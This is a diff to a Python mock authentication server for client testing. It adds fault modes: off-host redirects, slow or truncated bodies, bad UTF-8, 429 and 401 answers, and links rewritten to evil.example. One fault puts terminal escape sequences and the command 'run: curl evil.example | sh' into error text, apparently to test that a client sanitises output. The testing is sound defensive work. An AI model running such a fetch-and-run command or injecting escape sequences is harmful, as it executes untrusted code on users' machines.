@@ -79,6 +79,18 @@ FAULTS = {
     "error-at-first-continue": "the first continue request is answered with 400 and --error-code",
     "array-body": "200 with a JSON array",
     "deep-json": "200 with JSON nested 10000 levels",
+    "redirect-elsewhere": "302 to an https URL on another host",
+    "slow-body": "the headers, then one byte of the body per second",
+    "truncated-body": "Content-Length 200, 20 bytes, then the connection closes",
+    "null-flow-id": "flowId null",
+    "invalid-utf8": "a JSON string with bytes that are not UTF-8",
+    "lone-surrogate": "a JSON string with an unpaired \\ud800 escape",
+    "unauthorized-html": "401 with WWW-Authenticate and an HTML page",
+    "too-many-requests": "429 with Retry-After and no body",
+    "escape-sequences": "400 whose error text holds terminal escape sequences and a carriage return",
+    "links-elsewhere": "app-native: the authentication link points at https on another host",
+    "links-plain-http": "app-native: the authentication link points at plain http on another host",
+    "unknown-prompt": "app-native: the only authenticator has promptType QUANTUM_PROMPT and no params",
 }
 
 
@@ -235,6 +247,7 @@ class FlowServer:
         self.flows = {}
         self.lock = threading.Lock()
         self.flow_responses = 0
+        self.signin_responses = 0
         self.required_claims = dict(item.split("=", 1) for item in options.require_claim)
 
     # -- steps ---------------------------------------------------------------
@@ -503,7 +516,7 @@ def make_handler(server, signins):
                 number = server.flow_responses
             # Faults tied to the device step apply whenever that step comes; the others to response --fault-at.
             conditional = server.options.fault in ("error-after-device", "unknown-required-param", "missing-challenge", "bad-challenge")
-            fault = server.options.fault if conditional or number == server.options.fault_at else None
+            fault = server.options.fault if server.options.fault_on == "flow" and (conditional or number == server.options.fault_at) else None
             if fault and self.answer_with_fault(fault, raw):
                 return
             try:
@@ -520,17 +533,25 @@ def make_handler(server, signins):
             self.send_json(200, response)
 
         def sign_in(self, path, raw):
+            fault = None
+            if path in ("/oauth2/authorize", "/oauth2/authn") and server.options.fault_on == "signin":
+                with server.lock:
+                    server.signin_responses += 1
+                    if server.signin_responses == server.options.fault_at:
+                        fault = server.options.fault
+                if fault and self.answer_with_fault(fault, raw):
+                    return
             try:
                 if path == "/oauth2/authorize":
                     status, body = signins.authorize(signin.parse_form(raw), self.headers)
-                    return self.send_json(status, body)
+                    return self.send_json(status, self.corrupt_signin(fault, body))
                 if path == "/oauth2/authn":
                     try:
                         document = json.loads(raw)
                     except ValueError:
                         document = None
                     status, body = signins.authn(document)
-                    return self.send_json(status, body)
+                    return self.send_json(status, self.corrupt_signin(fault, body))
                 form = signin.parse_form(raw)
                 if path == "/oauth2/token":
                     return self.send_json(200, signins.token(form), {"Cache-Control": "no-store"})
@@ -574,6 +595,50 @@ def make_handler(server, signins):
                 self.send_raw(200, b"[1,2,3]", "application/json")
             elif fault == "deep-json":
                 self.send_raw(200, b"[" * 10000 + b"]" * 10000, "application/json")
+            elif fault == "redirect-elsewhere":
+                self.send_response(302)
+                self.send_header("Location", "https://elsewhere.example" + self.path)
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+            elif fault == "slow-body":
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", "100")
+                self.end_headers()
+                for _ in range(100):
+                    self.wfile.write(b" ")
+                    self.wfile.flush()
+                    time.sleep(1)
+            elif fault == "truncated-body":
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", "200")
+                self.end_headers()
+                self.wfile.write(b'{"flowId":"abc","flo')
+                self.wfile.flush()
+                self.close_connection = True
+                self.connection.shutdown(2)
+            elif fault == "invalid-utf8":
+                self.send_raw(200, b'{"flowId":"\xff\xfe\xc3","flowStatus":"INCOMPLETE","type":"VIEW","data":{}}', "application/json")
+            elif fault == "lone-surrogate":
+                self.send_raw(200, b'{"flowId":"\\ud800","flowStatus":"INCOMPLETE","type":"VIEW","data":{}}', "application/json")
+            elif fault == "unauthorized-html":
+                self.send_response(401)
+                self.send_header("WWW-Authenticate", 'Basic realm="WSO2"')
+                self.send_header("Content-Type", "text/html")
+                body = b"<html><body>401 Unauthorized</body></html>"
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+            elif fault == "escape-sequences":
+                self.send_json(400, {"code": "DR-60001", "message": "Flow context expired\u001b]0;owned\u0007",
+                                     "description": "\u001b[2J\u001b[31mrun: curl evil.example | sh\r", "traceId": None,
+                                     "error": "invalid_request", "error_description": "\u001b[2Jrun: curl evil.example | sh\r"})
+            elif fault == "too-many-requests":
+                self.send_response(429)
+                self.send_header("Retry-After", "3600")
+                self.send_header("Content-Length", "0")
+                self.end_headers()
             elif fault == "complete-without-device":
                 self.send_json(200, {"flowId": str(uuid.uuid4()), "flowStatus": "COMPLETE", "type": "VIEW", "data": {}})
             elif fault == "error-after-device" and b'"publicKey"' in raw or fault == "error-at-first-continue":
@@ -583,6 +648,23 @@ def make_handler(server, signins):
             else:
                 return False
             return True
+
+        def corrupt_signin(self, fault, body):
+            """Faults inside an app-native answer."""
+            if fault == "missing-status":
+                body.pop("flowStatus", None)
+            elif fault == "wrong-json-types":
+                body["flowStatus"] = 7
+            elif fault in ("links-elsewhere", "links-plain-http"):
+                for link in body.get("links", []):
+                    link["href"] = ("https" if fault == "links-elsewhere" else "http") + "://evil.example/oauth2/authn"
+            elif fault == "unknown-prompt":
+                for authenticator in body.get("nextStep", {}).get("authenticators", []):
+                    authenticator.setdefault("metadata", {})["promptType"] = "QUANTUM_PROMPT"
+                    authenticator["metadata"]["params"] = []
+                body.get("nextStep", {})["authenticators"] = body.get("nextStep", {}).get("authenticators", [])[:1]
+                body.get("nextStep", {})["stepType"] = "AUTHENTICATOR_PROMPT"
+            return body
 
         def corrupt(self, fault, response):
             if fault == "unknown-step-type":
@@ -595,6 +677,8 @@ def make_handler(server, signins):
                 response["data"] = [1, 2]
             elif fault == "missing-flow-id":
                 del response["flowId"]
+            elif fault == "null-flow-id":
+                response["flowId"] = None
             elif fault == "missing-status":
                 del response["flowStatus"]
             elif fault == "unknown-required-param" and response["type"] == "INTERNAL_PROMPT":
@@ -624,6 +708,8 @@ def main():
     parser.add_argument("--flow-ttl", type=int, default=600)
     parser.add_argument("--fault", choices=sorted(FAULTS))
     parser.add_argument("--fault-at", type=int, default=1, help="which flow response gets the fault (1 = the first)")
+    parser.add_argument("--fault-on", choices=["flow", "signin"], default="flow",
+                        help="inject into Flow Execution API answers, or into app-native answers (/oauth2/authorize, /oauth2/authn)")
     parser.add_argument("--error-code", default="DR-60001", help="the code of the error faults")
     parser.add_argument("--authenticators", choices=["basic", "multi", "federated"], default="multi",
                         help="app-native first step: Basic only, Basic or email OTP, Basic or a federated IdP (REDIRECTION_PROMPT)")
